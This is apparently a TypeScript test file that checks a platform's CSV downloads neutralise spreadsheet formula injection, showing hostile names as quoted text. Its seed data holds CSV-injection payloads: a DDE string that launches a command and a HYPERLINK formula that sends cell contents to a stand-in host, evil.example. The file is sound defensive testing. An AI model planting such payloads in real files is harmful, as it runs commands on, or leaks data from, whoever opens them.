/**
 * Every CSV the platform offers for download, with names an editor typed to attack whoever opens the file: no cell
 * reaches a spreadsheet as a formula, and the names are still there, shown as text.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { seedDemo } from '../../seed.js';
import { aUser } from '../testing/factories.js';
import { signedInBrowser, type TestBrowser } from '../testing/http.js';
import { useTestApp } from '../testing/world.js';

const attack = "=cmd|' /C calc'!A0";
const link = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
const context = useTestApp();
let admin: TestBrowser;
let planId = 0;

beforeAll(async () => {
  const { db } = context;
  if (!(await seedDemo(db)).ok) throw new Error('demo not loaded');
  // Names as a hostile editor could type them into the forms (or import them).
  await sql`update partners set name = ${attack} || ' ' || id, nuts_name = ${attack} || ' region ' || id`.execute(db);
  await sql`update practices set title = ${link}`.execute(db);
  await sql`update instruments set name = ${'@SUM(1+1)*cmd|x'}`.execute(db);
  await sql`update plan_versions set content = jsonb_set(content, '{actions,0,title}', to_jsonb(${'-2+3+cmd|x'}::text)) where jsonb_array_length(content -> 'actions') > 0`.execute(
    db,
  );
  planId = (await db.selectFrom('progress_reports').select('plan_id').executeTakeFirstOrThrow()).plan_id;
  admin = await signedInBrowser(context.app, await aUser(db, { role: 'admin' }));
});

const formula = /^[=+\-@\t\r]/;
const plainNumber = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

async function cellsOf(url: string): Promise<string[]> {
  const response = await admin.get(url);
  expect(response.statusCode, url).toBe(200);
  expect(response.headers['content-type']).toContain('text/csv');
  const rows: string[][] = parse(response.body, { bom: true, relax_column_count: true });
  return rows.flat();
}

describe('a CSV download', () => {
  it.each([
    ['/practices/export.csv', link],
    ['/instruments.csv', '@SUM(1+1)*cmd|x'],
    ['/instruments/programme.csv', attack],
    ['/plans/overview/reports.csv', attack],
    ['/plans/overview/reports.csv', '-2+3+cmd|x'],
    ['/events/statistics/regions.csv', attack],
  ])('%s shows the hostile name %s as text, not as a formula', async (url, name) => {
    const cells = await cellsOf(url);
    expect(cells.some((cell) => cell.startsWith(`'${name}`))).toBe(true);
    expect(cells.filter((cell) => formula.test(cell) && !plainNumber.test(cell))).toEqual([]);
  });

  it("a plan's reports show the hostile action title as text", async () => {
    const cells = await cellsOf(`/plans/${planId}/reports.csv`);
    expect(cells).toContain("'-2+3+cmd|x");
    expect(cells.filter((cell) => formula.test(cell) && !plainNumber.test(cell))).toEqual([]);
  });

  it('every statistics table is free of formulas', async () => {
    for (const table of ['events-held', 'helix', 'roles', 'regions', 'event-types']) {
      const cells = await cellsOf(`/events/statistics/${table}.csv`);
      expect(
        cells.filter((cell) => formula.test(cell) && !plainNumber.test(cell)),
        table,
      ).toEqual([]);
    }
  });
});

describe('the CSV writers and readers', () => {
  it('are only those of core/exchange, so no module can write a cell without neutralising it or read one without restoring it', async () => {
    const source = path.resolve(import.meta.dirname, '../..');
    const files = (await readdir(source, { recursive: true })).filter(
      (file) => /\.tsx?$/.test(file) && !/\.test\.tsx?$/.test(file) && !file.startsWith(path.join('core', 'exchange')),
    );
    const offenders = [];
    for (const file of files) if (/from 'csv-(parse|stringify)/.test(await readFile(path.join(source, file), 'utf8'))) offenders.push(file);
    expect(offenders).toEqual([]);
  });
});
